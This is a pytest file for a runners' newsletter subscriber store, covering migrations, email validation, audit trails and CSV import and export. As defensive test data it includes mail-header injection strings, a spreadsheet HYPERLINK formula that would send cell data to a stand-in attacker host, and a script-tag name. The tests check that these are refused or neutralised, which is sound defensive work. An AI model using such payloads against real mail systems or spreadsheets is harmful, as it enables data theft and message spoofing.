"""The subscriber store, on SQLite and on PostgreSQL (the `backend` fixture): schema and
migrations, readers, audit, streaming, CSV import."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import threading
from pathlib import Path

import pytest
from sqlalchemy import event
from sqlalchemy.exc import DBAPIError

from publisher.content.posts import load_goals
from publisher.errors import RunletterError
from publisher.store import (
    MIGRATIONS,
    Store,
    database,
    neutralise_cell,
    normalize_email,
    restore_cell,
    validate_email,
)
from publisher.store.upgrade import HEAD
from tests.helpers.support import (
    fail_inserts_of,
    import_csv,
    punctuation_last,
    sqlite_only,
    version_5_store,
    wait_for_a_waiting_writer,
    write_csv,
)
from tests.samples import GOALS, HEADER, REPO


def emails(store: Store) -> list[str]:
    return [s.email for s in store.list()]


# -- schema --------------------------------------------------------------------------------


@sqlite_only("the SQLite file's PRAGMAs: WAL, foreign keys, the busy timeout")
def test_open_creates_the_database_at_the_latest_schema_version(tmp_path):
    path = tmp_path / "nested" / "dir" / "runletter.db"
    with Store.open(path) as store:
        assert path.exists()
        assert store.schema_version == int(HEAD) == 12
        assert store.conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert store.conn.execute("PRAGMA foreign_keys").fetchone()[0] == 1
        assert store.conn.execute("PRAGMA busy_timeout").fetchone()[0] == 5000


@sqlite_only("a SQLite store made before Alembic")
def test_schema_migrates_from_the_first_version(tmp_path):
    path = tmp_path / "old.db"
    conn = sqlite3.connect(path)
    conn.executescript(MIGRATIONS[0])
    conn.execute("CREATE TABLE schema_version(version INTEGER NOT NULL)")
    conn.execute("INSERT INTO schema_version VALUES (1)")
    conn.execute("INSERT INTO subscribers(email, first_name, goal, status, created_at, "
                 "updated_at) VALUES ('old@example.com', 'Olde', 'marathon', 'active', "
                 "'2020-01-01T00:00:00+00:00', '2020-01-01T00:00:00+00:00')")
    conn.commit()
    conn.close()

    with Store.open(path) as store:
        assert store.schema_version == int(HEAD)
        survivor = store.get("old@example.com")
        assert survivor is not None
        assert (survivor.first_name, survivor.goal, survivor.consent_ip) == (
            "Olde", "marathon", None)
        tables = {r[0] for r in store.conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"subscribers", "deliveries", "audit", "schema_version"} <= tables
        assert store.conn.execute("SELECT COUNT(*) FROM schema_version").fetchone()[0] == 1


@sqlite_only("a SQLite store made before Alembic")
def test_upgrading_a_version_5_store_keeps_its_ledger_and_dates_the_sent_rows(tmp_path):
    path = tmp_path / "v5.db"
    version_5_store(path, "ran@example.com")
    conn = sqlite3.connect(path)
    conn.execute("INSERT INTO deliveries(post, subscriber_id, email, goal, state, attempts, "
                 "updated_at) VALUES ('hips', 1, 'ran@example.com', 'general', 'sent', 1, "
                 "'2026-02-03T06:00:00+00:00')")
    conn.commit()
    conn.close()

    with Store.open(path) as store:
        row = store.conn.execute("SELECT state, sent_at FROM deliveries").fetchone()
        reader = store.get("ran@example.com")
    assert row == ("sent", "2026-02-03T06:00:00+00:00")
    assert (reader.race_date, reader.race_name, reader.timezone) == (None, "", "")


@sqlite_only("a store from before Alembic")
def test_an_upgraded_stores_readers_stay_in_the_signup_sequences_from_their_signup(tmp_path):
    path = tmp_path / "old.db"
    version_5_store(path, "old@example.com")
    with Store.open(path) as store:
        assert store.conn.execute("SELECT enrolled_at FROM subscribers").fetchall() == [
            ("2026-01-01T00:00:00+00:00",)]


def test_reopening_an_up_to_date_database_keeps_its_readers(store_url):
    with Store.open(store_url) as store:
        store.add("kept@example.com")
    with Store.open(store_url) as store:
        assert emails(store) == ["kept@example.com"]
        assert store.schema_version == int(HEAD)


def test_open_refuses_a_database_from_a_newer_runletter(store_url):
    with Store.open(store_url) as store:
        store.conn.execute("UPDATE alembic_version SET version_num = '0099'")
    with pytest.raises(RunletterError, match="schema version 99"):
        Store.open(store_url)


@sqlite_only("a file that is not a SQLite database")
def test_open_refuses_a_file_that_is_not_a_database(tmp_path):
    path = tmp_path / "notes.db"
    path.write_bytes(b"these are my running notes, not a database\n" * 200)
    with pytest.raises(RunletterError) as caught:
        Store.open(path)
    assert str(caught.value).startswith(f"{path}: not a usable subscriber store")


# -- emails --------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "reason"), [
    ("", "empty"),
    ("runner.example.com", "no '@'"),
    ("a@b@example.com", "more than one '@'"),
    ("@example.com", "nothing before the '@'"),
    ("runner@localhost", "no dot"),
    ("run ner@example.com", "space"),
    ("runner@example.com\r\nBcc: x@evil.test", "line break"),
    ("r" * 250 + "@example.com", "limit is 254"),
])
def test_validate_email_says_why_an_address_is_invalid(text, reason):
    assert reason in (validate_email(text) or "")


def test_validate_email_accepts_a_plain_address():
    assert validate_email("  Amara.Okafor+runs@Example.COM ") is None


@pytest.mark.parametrize(("text", "reason"), [
    ('"comma,evil"@example.org', "the part before the '@' contains '\"'"),
    ("angle<x>@example.org", "the part before the '@' contains '<'"),
    ("back\\slash@example.org", "the part before the '@' contains '\\\\'"),
    ("semi;colon@example.org", "the part before the '@' contains ';'"),
    (".dot@example.org", "the part before the '@' starts or ends with a dot"),
    ("dot.@example.org", "the part before the '@' starts or ends with a dot"),
    ("two..dots@example.org", "the part before the '@' has two dots in a row"),
    ("l" * 65 + "@example.org", "the part before the '@' is 65 characters long; the limit is 64"),
    ("runner@exa_mple.org", "the domain 'exa_mple.org' contains '_'"),
    ("runner@[192.0.2.1]", "the domain '[192.0.2.1]' contains '['"),
    ("runner@-start.example.org", "the domain '-start.example.org' has a part that starts or "
                                  "ends with a hyphen"),
    ("runner@" + "d" * 64 + ".org", "has a part longer than 63 characters"),
])
def test_validate_email_refuses_specials_outside_the_dot_atom_form(text, reason):
    assert reason in (validate_email(text) or "accepted")


@pytest.mark.parametrize("text", [
    "o'brien+runs@example.com", "=x@example.com", "a!#$%&*/=?^_`{|}~-z@example.com",
    "first.last@sub.example-domain.org", "jurgen@bücher.example"])
def test_validate_email_accepts_every_dot_atom_address(text):
    assert validate_email(text) is None


def test_email_is_stored_trimmed_with_a_lowercase_domain(store):
    added = store.add("  Amara.Okafor@Example.COM ")
    assert added.email == "Amara.Okafor@example.com"
    assert normalize_email(" X@Y.Org") == "X@y.org"


def test_email_is_unique_case_insensitively(store):
    store.add("amara@example.com")
    with pytest.raises(RunletterError, match="already a subscriber"):
        store.add("AMARA@EXAMPLE.COM")
    assert store.get("Amara@Example.com").email == "amara@example.com"
    assert len(emails(store)) == 1


def test_two_adds_of_one_address_at_once_give_the_second_a_one_line_refusal(store, store_url):
    outcomes: list[str] = []

    def add_from_another_process() -> None:
        with Store.open(store_url) as other:
            try:
                other.add("both@example.com")
                outcomes.append("added")
            except Exception as exc:  # noqa: BLE001 - whatever it is, the assert shows it
                outcomes.append(f"{type(exc).__name__}: {exc}")

    with store.transaction():
        store.add("both@example.com")
        second = threading.Thread(target=add_from_another_process)
        second.start()
        wait_for_a_waiting_writer(store)
    second.join(10)
    assert outcomes == ["RunletterError: runletter: both@example.com is already a subscriber "
                        "(status active)"]


def test_a_write_kept_waiting_by_another_process_says_the_store_is_locked(store, store_url,
                                                                          monkeypatch):
    monkeypatch.setattr(database, "LOCK_TIMEOUT", 0.2)  # seconds; 5 when not testing
    reader = store.add("held@example.com")
    with store.transaction(), Store.open(store_url) as other:
        store.set_status(reader.id, "bounced", "a long write holds the lock")
        with pytest.raises(RunletterError) as caught:
            other.set_status(reader.id, "unsubscribed", "waits for it")
    assert str(caught.value) == (f"{other.shown}: the subscriber store is locked by another "
                                 "runletter process; try again when it has finished")


def test_readers_are_listed_by_address_as_sqlite_orders_them_whatever_the_collation(store):
    punctuation_last(store)
    for address in ("aa@example.com", "A_c@example.com", "a.b@example.com", "a-z@example.com"):
        store.add(address)
    assert [s.email for s in store.list(batch_size=2)] == [
        "a-z@example.com", "a.b@example.com", "A_c@example.com", "aa@example.com"]


def test_add_refuses_an_invalid_email_with_a_one_line_reason(store):
    with pytest.raises(RunletterError) as caught:
        store.add("not-an-address")
    assert str(caught.value) == "runletter: invalid email 'not-an-address': it has no '@'"
    assert emails(store) == []


def test_add_refuses_an_address_with_specials_and_stores_nothing(store):
    with pytest.raises(RunletterError) as caught:
        store.add('"comma,evil"@example.org')
    assert str(caught.value) == ("runletter: invalid email '\"comma,evil\"@example.org': "
                                 "the part before the '@' contains '\"', which mail providers "
                                 "refuse")
    assert emails(store) == []


def test_add_refuses_a_name_with_a_newline(store):
    with pytest.raises(RunletterError, match="line break"):
        store.add("x@example.com", first_name="Eve\nBcc: all@example.com")


@pytest.mark.parametrize("name", ["Eve\x85Bcc: all@example.com", "Eve\x9bX"])
def test_add_refuses_a_name_with_a_c1_control_such_as_next_line(store, name):
    with pytest.raises(RunletterError, match="control character"):
        store.add("x@example.com", first_name=name)


# -- status changes and the audit trail ----------------------------------------------------


def test_every_status_change_is_audited(store):
    store.add("runner@example.com", status="pending", consent_source="form")
    store.set_status("runner@example.com", "active", "confirmed by link")
    store.set_status("runner@example.com", "active", "clicked twice")  # no change, no row
    store.set_status("runner@example.com", "unsubscribed", "one-click unsubscribe")
    store.remove("runner@example.com")
    trail = [(e.old_status, e.new_status, e.reason) for e in store.history("RUNNER@example.com")]
    assert trail == [
        (None, "pending", "added (form)"),
        ("pending", "active", "confirmed by link"),
        ("active", "unsubscribed", "one-click unsubscribe"),
        ("unsubscribed", "removed", "removed"),
    ]


def test_set_status_accepts_a_subscriber_id(store):
    added = store.add("id@example.com")
    changed = store.set_status(added.id, "bounced", "hard bounce 550")
    assert changed.status == "bounced"
    assert store.get("id@example.com").status == "bounced"


def test_set_status_refuses_an_unknown_status_with_a_suggestion(store):
    store.add("s@example.com")
    with pytest.raises(RunletterError, match="did you mean 'unsubscribed'"):
        store.set_status("s@example.com", "unsubscribd", "typo")
    assert store.get("s@example.com").status == "active"


def test_set_status_of_an_unknown_reader_is_an_error(store):
    with pytest.raises(RunletterError, match="no subscriber 'ghost@example.com'"):
        store.set_status("ghost@example.com", "active", "why")


def test_remove_deletes_the_reader_and_their_ledger_rows(store):
    reader = store.add("gone@example.com", goal="5k")
    store.conn.execute("INSERT INTO deliveries(post, subscriber_id, email, goal, state, "
                       "updated_at) VALUES ('p1', :id, :email, '5k', 'sent', 'now')",
                       {"id": reader.id, "email": reader.email})
    assert store.remove("GONE@example.com") is True
    assert store.get("gone@example.com") is None
    assert store.conn.execute("SELECT COUNT(*) FROM deliveries").fetchone()[0] == 0
    assert store.remove("gone@example.com") is False


def test_update_changes_goal_and_name_and_leaves_the_rest(store):
    store.add("u@example.com", goal="5k", first_name="Al", tags=["track"])
    updated = store.update("u@example.com", goal="marathon")
    assert (updated.goal, updated.first_name, updated.tags) == ("marathon", "Al", ("track",))
    updated = store.update("u@example.com", first_name="Alice")
    assert (updated.goal, updated.first_name) == ("marathon", "Alice")


# -- many readers --------------------------------------------------------------------------


def test_list_is_ordered_by_email_and_filters_by_goal_and_status(store):
    store.add("c@example.com", goal="5k")
    store.add("A@example.com", goal="5k", status="unsubscribed")
    store.add("b@example.com", goal="half")
    assert emails(store) == ["A@example.com", "b@example.com", "c@example.com"]
    assert [s.email for s in store.list(goal="5k")] == ["A@example.com", "c@example.com"]
    assert [s.email for s in store.list(goal="5k", status="active")] == ["c@example.com"]


def test_list_pages_through_more_readers_than_one_batch(store):
    for i in range(7):
        store.add(f"r{i}@example.com")
    assert [s.email for s in store.list(batch_size=3)] == [f"r{i}@example.com"
                                                            for i in range(7)]


def test_count_by_goal_counts_only_active_readers_by_default(store):
    store.add("a@example.com", goal="5k")
    store.add("b@example.com", goal="5k")
    store.add("c@example.com", goal="half")
    store.add("d@example.com", goal="half", status="unsubscribed")
    assert store.count_by_goal() == {"5k": 2, "half": 1}
    assert store.count_by_goal(status=None) == {"5k": 2, "half": 2}


def test_iter_active_streams_in_batches_of_the_given_size(store):
    with store.transaction() as conn:
        conn.executemany(
            "INSERT INTO subscribers(email, goal, status, created_at, updated_at) "
            "VALUES (:email, :goal, 'active', 'now', 'now')",
            [{"email": f"r{i:04d}@example.com", "goal": "5k" if i % 2 else "half"}
             for i in range(2500)])
    batches = list(store.iter_active(["5k", "half"], batch_size=1000))
    assert [len(b) for b in batches] == [1000, 1000, 500]
    ids = [s.id for b in batches for s in b]
    assert ids == sorted(ids) and len(set(ids)) == 2500


def test_iter_active_yields_only_active_readers_of_the_given_goals(store):
    store.add("five@example.com", goal="5k")
    store.add("half@example.com", goal="half")
    store.add("left@example.com", goal="5k", status="unsubscribed")
    store.add("wait@example.com", goal="5k", status="pending")
    got = [s.email for b in store.iter_active({"5k", "marathon"}, batch_size=1) for s in b]
    assert got == ["five@example.com"]
    assert list(store.iter_active([])) == []


def test_export_csv_writes_the_header_then_one_row_per_reader(store):
    store.add("b@example.com", goal="half", first_name="Bo", tags=["road", "masters"])
    store.add("a@example.com", status="unsubscribed")
    out = io.StringIO()
    assert store.export_csv(out) == 2
    lines = out.getvalue().splitlines()
    assert lines[0] == ('"email","first_name","goal","tags","status","consent_source",'
                        '"consent_at","consent_ip","created_at","updated_at","race_date",'
                        '"race_name","timezone"')
    assert lines[1].startswith('"a@example.com","","general","","unsubscribed","cli",')
    assert lines[2].startswith('"b@example.com","Bo","half","road;masters","active","cli",')
    only_half = io.StringIO()
    assert store.export_csv(only_half, goal="half") == 1


def test_an_export_imports_back_into_a_new_store_unchanged(store, tmp_path):
    store.add("b@example.com", goal="half", first_name="Bo", tags=["road"])
    store.add("a@example.com", status="bounced")
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        store.export_csv(out)
    with Store.open(tmp_path / "other.db") as other:
        report = import_csv(other, path, GOALS)
        assert (report.added, report.skipped, report.findings) == (2, 0, ())
        assert [(s.email, s.goal, s.tags, s.status) for s in other.list()] == [
            ("a@example.com", "general", (), "bounced"),
            ("b@example.com", "half", ("road",), "active")]


FORMULA_NAMES = ['=HYPERLINK("https://evil.test/?"&A1,"Click")', "+1-1", "-2+3", "@SUM(A1:A9)",
                 "'=already quoted", "''=twice", "'plain quote", "O'Brien"]


def exported_rows(store: Store) -> list[list[str]]:
    out = io.StringIO()
    store.export_csv(out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_export_neutralises_cells_that_start_with_a_formula_character(store):
    for number, name in enumerate(FORMULA_NAMES):
        store.add(f"r{number}@example.com", first_name=name, tags=["=1+1", "road"])
    store.add("=cmd@example.com", first_name="+SUM(1)")
    rows = exported_rows(store)[1:]
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert {row[1] for row in rows} == {
        "'=HYPERLINK(\"https://evil.test/?\"&A1,\"Click\")", "'+1-1", "'-2+3", "'@SUM(A1:A9)",
        "''=already quoted", "'''=twice", "'plain quote", "O'Brien", "'+SUM(1)"}
    assert rows[0][0] == "'=cmd@example.com"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=1", "''=1"), ("''\t", "'''\t"), ("'x", "'x"), ("a=1", "a=1"),
    ("", "")])
def test_a_neutralised_cell_restores_to_exactly_the_value(value, cell):
    assert neutralise_cell(value) == cell
    assert restore_cell(cell) == value


def test_every_exported_cell_is_quoted_so_semicolon_spreadsheets_do_not_split_it(store):
    store.add("semi@example.com", first_name="Bo;=1+1")
    out = io.StringIO()
    store.export_csv(out)
    assert '"semi@example.com","Bo;=1+1","general"' in out.getvalue()


def test_an_export_with_formula_cells_imports_back_exactly(store, tmp_path):
    for number, name in enumerate(FORMULA_NAMES):
        store.add(f"r{number}@example.com", first_name=name, goal="half",
                  tags=[name.replace(";", ""), "'-x"], status="bounced")
    store.add("-minus@example.com", first_name="@home")
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        store.export_csv(out)
    with Store.open(tmp_path / "other.db") as other:
        report = import_csv(other, path, GOALS)
        assert report.errors == ()
        assert ([(s.email, s.first_name, s.goal, s.tags, s.status) for s in other.list()]
                == [(s.email, s.first_name, s.goal, s.tags, s.status) for s in store.list()])


def test_a_leading_quote_not_before_a_formula_character_is_kept_on_import(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "tis@example.com,'Tis,5k,,\n"
                     "eq@example.com,'=x,5k,,\n")
    assert import_csv(store, path, GOALS).errors == ()
    assert [s.first_name for s in store.list()] == ["=x", "'Tis"]


# -- CSV import ----------------------------------------------------------------------------


def test_import_reports_bad_email_with_file_and_line(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "good@example.com,Good,5k,,\n"
                     "bad.example.com,Bad,5k,,\n"
                     "also-good@example.com,Also,half,,\n")
    report = import_csv(store, path, GOALS, display="subscribers/new.csv")
    assert (report.added, report.skipped) == (2, 1)
    assert [str(f) for f in report.findings] == [
        "subscribers/new.csv:3: invalid email 'bad.example.com': it has no '@' (row skipped)"]
    assert report.findings[0].level == "error"
    assert emails(store) == ["also-good@example.com", "good@example.com"]


@pytest.mark.parametrize("left", ["unsubscribed", "bounced", "complained"])
def test_import_never_reactivates_an_unsubscribed_reader(store, tmp_path, left):
    store.add("gone@example.com", goal="5k", first_name="Old")
    store.set_status("gone@example.com", left, "their choice")
    path = write_csv(tmp_path, HEADER + "gone@example.com,New,half,,active\n")
    report = import_csv(store, path, GOALS, display="r.csv")
    reader = store.get("gone@example.com")
    assert reader.status == left
    assert (reader.first_name, reader.goal) == ("New", "half")
    assert [(str(f), f.level) for f in report.findings] == [
        (f"r.csv:2: gone@example.com: kept {left}; a reader who left must re-subscribe "
         "themselves", "warning")]
    assert (report.updated, report.skipped) == (1, 0)


def test_import_leaves_an_existing_status_alone_when_the_file_gives_none(store, tmp_path):
    store.add("p@example.com", status="pending")
    path = write_csv(tmp_path, "email,goal\np@example.com,half\n")
    report = import_csv(store, path, GOALS)
    assert store.get("p@example.com").status == "pending"
    assert (report.updated, report.findings) == (1, ())


def test_import_can_unsubscribe_an_active_reader_and_audits_it(store, tmp_path):
    store.add("leaving@example.com")
    path = write_csv(tmp_path, HEADER + "leaving@example.com,,general,,unsubscribed\n")
    import_csv(store, path, GOALS, display="old-platform.csv")
    assert store.get("leaving@example.com").status == "unsubscribed"
    last = store.history("leaving@example.com")[-1]
    assert (last.old_status, last.new_status, last.reason) == (
        "active", "unsubscribed", "imported from old-platform.csv:2")


def test_import_accepts_bom_and_crlf(store, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeffemail,first_name,goal,tags,status\r\n"
                     "zoe@example.com,Zoë,half,\"road; masters\",active\r\n"
                     "bjorn@example.com,Björn,ultra,trail,\r\n".encode())
    report = import_csv(store, path, GOALS)
    assert (report.added, report.findings) == (2, ())
    zoe = store.get("zoe@example.com")
    assert (zoe.first_name, zoe.goal, zoe.tags) == ("Zoë", "half", ("road", "masters"))
    assert store.get("bjorn@example.com").first_name == "Björn"


def test_import_reports_duplicate_rows_within_the_file(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "dup@example.com,First,5k,,\n"
                     "other@example.com,,5k,,\n"
                     "DUP@Example.com,Second,half,,\n")
    report = import_csv(store, path, GOALS, display="r.csv")
    assert [str(f) for f in report.findings] == [
        "r.csv:4: duplicate: DUP@example.com is already on line 2; each reader may appear "
        "once (row skipped)"]
    assert store.get("dup@example.com").first_name == "First"
    assert (report.added, report.skipped) == (2, 1)


def test_import_refuses_a_name_with_a_newline(store, tmp_path):
    path = write_csv(tmp_path, HEADER + '"eve@example.com","Eve\nBcc: all@example.com",5k,,\n'
                     "next@example.com,Next,5k,,\n")
    report = import_csv(store, path, GOALS, display="r.csv")
    assert store.get("eve@example.com") is None
    assert len(report.findings) == 1
    assert report.findings[0].line == 2
    assert "first_name contains a line break" in report.findings[0].message
    assert store.get("next@example.com") is not None


def test_import_line_numbers_count_physical_lines_after_a_multiline_field(store, tmp_path):
    path = write_csv(tmp_path, HEADER + 'a@example.com,"two\nlines",5k,,\n'
                     "\n"
                     "broken,,5k,,\n")
    report = import_csv(store, path, GOALS)
    assert [f.line for f in report.findings] == [2, 5]


def test_import_refuses_a_name_with_a_control_character(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "c@example.com,Bad\x07Bell,5k,,\n")
    report = import_csv(store, path, GOALS)
    assert report.skipped == 1
    assert "control character" in report.findings[0].message


def test_import_refuses_a_name_longer_than_100_characters(store, tmp_path):
    path = write_csv(tmp_path, HEADER + f"long@example.com,{'N' * 101},5k,,\n"
                     f"ok@example.com,{'N' * 100},5k,,\n")
    report = import_csv(store, path, GOALS)
    assert [f.line for f in report.findings] == [2]
    assert "101 characters long; the limit is 100" in report.findings[0].message
    assert store.get("ok@example.com").first_name == "N" * 100


def test_import_keeps_script_tag_names_as_text(store, tmp_path):
    name = "<script>alert('hi')</script>"
    path = write_csv(tmp_path, HEADER + f'x@example.com,"{name}",5k,,\n')
    report = import_csv(store, path, GOALS)
    assert report.findings == ()
    assert store.get("x@example.com").first_name == name


def test_import_unknown_goal_suggests_the_closest(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "m@example.com,,maraton,,\n")
    report = import_csv(store, path, GOALS, display="r.csv")
    assert [str(f) for f in report.findings] == [
        "r.csv:2: unknown goal 'maraton' (did you mean 'marathon'?); goals: 5k, 10k, half, "
        "marathon, ultra, comeback, general (row skipped)"]
    assert store.get("m@example.com") is None


def test_import_treats_an_empty_goal_as_general(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "g@example.com,Gen,,,\n")
    import_csv(store, path, GOALS)
    assert store.get("g@example.com").goal == "general"


def test_import_reports_an_unknown_status(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "s@example.com,,5k,,actve\n")
    report = import_csv(store, path, GOALS)
    assert report.skipped == 1
    assert "unknown status 'actve' (did you mean 'active'?)" in report.findings[0].message


def test_import_gives_a_new_row_without_status_the_active_status(store, tmp_path):
    path = write_csv(tmp_path, "email,first_name\nnew@example.com,New\n")
    report = import_csv(store, path, GOALS, display="r.csv")
    reader = store.get("new@example.com")
    assert (reader.status, reader.goal, reader.consent_source) == (
        "active", "general", "import:runletter:readers.csv")
    assert reader.consent_at is None  # the file gave no consent time: unknown, not invented
    assert report.added == 1


def test_import_splits_tags_on_semicolons_trimming_and_dropping_empties(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "t@example.com,,5k, track ;;early-bird ; ,\n")
    import_csv(store, path, GOALS)
    assert store.get("t@example.com").tags == ("track", "early-bird")


def test_import_updates_existing_readers_and_counts_the_unchanged(store, tmp_path):
    store.add("same@example.com", goal="5k", first_name="Sam")
    store.add("moved@example.com", goal="5k", first_name="Mo")
    path = write_csv(tmp_path, HEADER + "same@example.com,Sam,5k,,\n"
                     "MOVED@example.com,Mo,marathon,road,\n")
    report = import_csv(store, path, GOALS)
    assert (report.added, report.updated, report.unchanged, report.skipped) == (0, 1, 1, 0)
    moved = store.get("moved@example.com")
    assert (moved.goal, moved.tags, moved.email) == ("marathon", ("road",), "moved@example.com")


def test_import_refuses_an_unknown_column_and_imports_nothing(store, tmp_path):
    path = write_csv(tmp_path, "email,first_name,goal,lvl\na@example.com,A,5k,x\n")
    with pytest.raises(RunletterError) as caught:
        import_csv(store, path, GOALS, display="r.csv")
    assert "r.csv:1: unknown column 'lvl'" in str(caught.value)
    assert emails(store) == []


def test_import_requires_an_email_column(store, tmp_path):
    path = write_csv(tmp_path, "mail,goal\na@example.com,5k\n")
    with pytest.raises(RunletterError, match="r.csv:1: the header has no 'email' column"):
        import_csv(store, path, GOALS, display="r.csv")
    assert emails(store) == []


def test_import_reports_a_row_with_the_wrong_number_of_fields(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "a@example.com,A,5k\n")
    report = import_csv(store, path, GOALS)
    assert report.skipped == 1
    assert "the row has 3 fields; the header has 5" in report.findings[0].message


def test_import_refuses_a_file_that_is_not_utf8(store, tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes(HEADER.encode() + "z@example.com,Zoë,half,,\n".encode("latin-1"))
    with pytest.raises(RunletterError, match=r"r.csv:2: not UTF-8 text"):
        import_csv(store, path, GOALS, display="r.csv")
    assert emails(store) == []


def test_import_of_a_missing_file_names_the_file(store, tmp_path):
    with pytest.raises(RunletterError, match="nowhere.csv: cannot read the file"):
        import_csv(store, tmp_path / "nowhere.csv", GOALS, display="nowhere.csv")


def test_import_is_one_transaction(store, tmp_path):
    # The database itself fails on the third row, after two good rows were written.
    fail_inserts_of(store, "boom@example.com", "disk on fire")
    store.add("before@example.com", goal="5k", first_name="Before")
    path = write_csv(tmp_path, HEADER + "one@example.com,,5k,,\n"
                     "before@example.com,Changed,half,,\n"
                     "boom@example.com,,5k,,\n"
                     "two@example.com,,5k,,\n")
    with pytest.raises(DBAPIError, match="disk on fire"):
        import_csv(store, path, GOALS)
    assert emails(store) == ["before@example.com"]
    assert store.get("before@example.com").goal == "5k"
    assert len(store.history("one@example.com")) == 0
    assert not store.conn.in_transaction


def test_import_reports_addresses_with_specials_by_file_and_line(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "good@example.com,Good,5k,,\n"
                     '"""comma,evil""@example.org",Eve,5k,,\n'
                     "angle<x>@example.org,Eve,5k,,\n")
    report = import_csv(store, path, GOALS, display="r.csv")
    assert [str(f) for f in report.errors] == [
        "r.csv:3: invalid email '\"comma,evil\"@example.org': the part before the '@' "
        "contains '\"', which mail providers refuse (row skipped)",
        "r.csv:4: invalid email 'angle<x>@example.org': the part before the '@' contains "
        "'<', which mail providers refuse (row skipped)"]
    assert emails(store) == ["good@example.com"]


def test_import_commits_once_for_the_whole_file(store, tmp_path):
    path = write_csv(tmp_path, HEADER + "".join(f"r{i}@example.com,,5k,,\n" for i in range(50)))
    commits: list[str] = []

    def note(_conn, _cursor, sql, *_args) -> None:
        if sql.strip().upper() == "COMMIT":
            commits.append(sql)

    event.listen(store.conn.engine, "before_cursor_execute", note)
    try:
        report = import_csv(store, path, GOALS)
    finally:
        event.remove(store.conn.engine, "before_cursor_execute", note)
    assert report.added == 50
    assert commits == ["COMMIT"]


def test_sample_csv_imports_cleanly(store):
    goals = load_goals(REPO / "subscribers/goals.toml", REPO)
    report = import_csv(store, REPO / "subscribers/sample.csv", goals,
                              display="subscribers/sample.csv")
    assert report.errors == ()
    assert report.skipped == 0
    counts = store.count_by_goal()
    assert sum(counts.values()) >= 60
    assert set(counts) == set(goals.slugs)


def test_a_non_ascii_mailbox_name_is_refused_with_a_reason():
    from publisher.store import validate_email

    assert "non-ASCII" in validate_email("jürgen@example.com")
    assert validate_email("jurgen@bücher.example") is None


@sqlite_only("the SQLite file's and its WAL files' modes")
def test_a_new_store_and_its_wal_files_are_readable_by_their_owner_only(tmp_path: Path):
    folder = tmp_path / "subscribers"
    umask = os.umask(0o022)  # the common default, which leaves new files world-readable
    try:
        with Store.open(folder / "runletter.db") as store, store.transaction():
            store.add("runner@example.com", goal="5k")
            modes = {p.name: p.stat().st_mode & 0o777 for p in folder.iterdir()}
    finally:
        os.umask(umask)
    assert {"runletter.db", "runletter.db-wal", "runletter.db-shm"} <= set(modes)
    assert set(modes.values()) == {0o600}, modes
